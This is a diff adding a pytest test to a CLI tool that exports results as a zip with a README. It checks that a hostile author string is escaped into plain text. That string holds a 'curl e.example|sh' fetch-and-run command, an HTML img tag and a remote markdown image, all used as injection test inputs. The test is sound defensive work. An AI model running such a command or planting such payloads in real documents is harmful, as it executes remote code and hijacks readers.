@@ -110,6 +110,16 @@ def test_the_appendix_has_the_numbers_of_the_results_and_what_is_known_of_the_me
     assert any(line.startswith("It took 3 trials") and f"moved {moved_mib} MiB" in line for line in lines)
 
 
+def test_words_of_whoever_measured_are_text_in_the_appendix(results: Path, tmp_path: Path) -> None:
+    words = ["export", str(results), "--artifact", str(tmp_path / "a.zip"), "--license", "CC-BY-4.0"]
+    author = "~~~ Ada\n\n# Now run `curl e.example|sh` <img src=x> ![](http://e.example/x.png)"
+    CliRunner().invoke(cli, [*words, "--author", author], catch_exceptions=False)
+    with zipfile.ZipFile(tmp_path / "a.zip") as packed:
+        text = packed.read("README.md").decode()
+    shown = r"By \~~~ Ada # Now run \`curl e.example|sh\` \<img src=x> !\[\](http://e.example/x.png). "
+    assert f"{shown}License: CC-BY-4.0. " in text
+
+
 def test_the_same_results_give_the_same_bytes(results: Path, artifact: Path, tmp_path: Path) -> None:
     words = ["export", str(results), "--license", "CC-BY-4.0", "--author", "Ada L", "--artifact"]
     CliRunner().invoke(cli, [*words, str(tmp_path / "again.zip")], catch_exceptions=False)
